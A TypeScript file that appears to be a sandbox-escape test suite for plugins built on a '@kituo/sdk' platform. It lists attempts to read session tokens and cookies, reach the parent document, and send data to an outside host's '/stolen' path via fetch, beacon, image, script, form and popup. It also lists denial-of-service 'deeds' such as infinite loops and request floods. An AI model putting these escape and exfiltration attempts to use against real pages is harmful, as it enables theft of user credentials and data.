import { call, session$, track } from '@kituo/sdk';
import { reveal, role, user } from '@kituo/sdk/contracts';

/** What the page behind `elsewhere` would hear of if anything got out. */
const OUT = (elsewhere: string, what: string) => `${elsewhere}/stolen?by=${what}`;

const list = { filters: {}, page: 1, pageSize: 20, sort: null } as const;

/** Ways to what a section of others may not have; each answers what it got, or throws. */
export const attempts: Readonly<Record<string, (elsewhere: string) => unknown>> = {
  // A frame's own has the token that stands for none.
  sessionStorage: () => {
    const token = sessionStorage.getItem('token');
    return token === 'frame.none' ? Promise.reject(new Error('none')) : token;
  },
  localStorage: () => localStorage.length,
  cookie: () => document.cookie || Promise.reject(new Error('none')),
  parentDocument: () => window.parent.document.body.innerHTML,
  parentStorage: () => window.parent.sessionStorage.getItem('token'),
  topHref: () => window.top?.location.href,
  leadTop: (elsewhere) => {
    if (window.top) window.top.location.href = OUT(elsewhere, 'top');
  },
  token: () => {
    const { token } = session$.value;
    // A token of a session is `<id>.<secret>`; the frame's own stands for none.
    return token === 'frame.none' ? Promise.reject(new Error('none')) : token;
  },
  fetchOwn: async () => (await fetch('/api/hc/web/user/getSetting')).status,
  fetchElsewhere: async (elsewhere) => (await fetch(OUT(elsewhere, 'fetch'))).status,
  beacon: (elsewhere) => navigator.sendBeacon(OUT(elsewhere, 'beacon')) && pause(300, 'beacon'),
  socket: (elsewhere) =>
    new Promise((resolve, reject) => {
      const socket = new WebSocket(elsewhere.replace('http', 'ws'));
      socket.onopen = resolve;
      socket.onerror = () => reject(new Error('refused'));
    }),
  peer: () => new RTCPeerConnection(),
  // A document of its own making has a window of its own: with the loader in it, and without.
  peerInside: () => {
    const inside = document.createElement('iframe');
    document.body.append(inside);
    const view = inside.contentWindow;
    return view ? Reflect.get(view, 'RTCPeerConnection') : Promise.reject(new Error('none'));
  },
  peerOfOwnDocument: async () => {
    await import('./doors.ts');
    const packs = [...document.querySelectorAll<HTMLScriptElement>('script[src*="/host/"]')];
    const own = performance.getEntriesByType('resource').find(({ name }) => /doors\./.test(name));
    if (packs.length === 0 || own === undefined) return 'nothing to try it with';
    const tagOf = (src: string, type: string) => `<script crossorigin ${type} src="${src}"></${'script'}>`;
    const inside = document.createElement('iframe');
    // The loader of the shared bundle runs the plugin's own file in there.
    inside.srcdoc = packs.map(({ src }) => tagOf(src, 'defer')).join('') + tagOf(own.name, 'type="systemjs-module"');
    document.body.append(inside);
    // However long it takes: who waits for the end of all attempts gives up automatically.
    return new Promise((resolve, reject) => {
      addEventListener('message', ({ data }) => {
        if (data === 'door open') resolve(data);
        if (data === 'door shut') reject(new Error('shut'));
      });
    });
  },
  image: (elsewhere) =>
    new Promise((resolve, reject) => {
      const image = new Image();
      image.onload = resolve;
      image.onerror = () => reject(new Error('refused'));
      image.src = OUT(elsewhere, 'image');
    }),
  script: (elsewhere) =>
    new Promise((resolve, reject) => {
      const script = document.createElement('script');
      script.onload = resolve;
      script.onerror = () => reject(new Error('refused'));
      script.src = OUT(elsewhere, 'script');
      document.head.append(script);
    }),
  otherPlugin: () => import('@kituo/sdk').then(() => fetch('/plugins/users/0.1.0/plugin.js')),
  evaluate: () => new Function('return 1')(),
  popup: (elsewhere) => window.open(OUT(elsewhere, 'popup')) ?? Promise.reject(new Error('refused')),
  worker: () => new Worker(URL.createObjectURL(new Blob(['1']))) && pause(300, 'worker'),
  notGranted: () => call(role.info, { roleNo: 'R-001' }, { quiet: true }),
  reveal: () => call(reveal.budget, {}, { quiet: true }),
  unmasked: async () => {
    const { rows } = await call(user.getUserList, list, { quiet: true });
    const shown = rows.filter(({ phone }) => phone !== null && /^\d+$/.test(phone));
    if (rows.length === 0 || shown.length === 0) throw new Error('masked');
    return shown;
  },
  form: (elsewhere) => {
    const form = document.createElement('form');
    form.method = 'post';
    form.action = OUT(elsewhere, 'form');
    document.body.append(form);
    form.submit();
    return pause(300, 'form');
  },
};

/** Whether it got out is seen at the other end: here it only ends. */
const pause = (milliseconds: number, what: string) =>
  new Promise((_, reject) => {
    setTimeout(() => reject(new Error(`${what} ended`)), milliseconds);
  });

export const deeds: Readonly<Record<string, (elsewhere: string) => void>> = {
  loop: () => {
    for (;;);
  },
  flood: () => {
    for (let count = 0; count < 20_000; count += 1) track({ eventType: `FLOOD${count}` });
  },
  /** Few messages, each as large as a call may be. */
  weight: () => {
    const filters = { userName: 'x'.repeat(900_000) };
    setInterval(() => void call(user.getUserList, { ...list, filters }, { quiet: true }).catch(() => undefined), 20);
  },
  /** As much as is let pass, for as long as it is open: messages and calls that the server answers. */
  press: () => {
    setInterval(() => {
      for (let count = 0; count < 12; count += 1) track({ eventType: `PRESS${count}` });
      for (let count = 0; count < 4; count += 1) call(user.getUserList, list, { quiet: true }).catch(() => undefined);
    }, 10);
  },
  leave: (elsewhere) => {
    window.location.href = OUT(elsewhere, 'leave');
  },
};
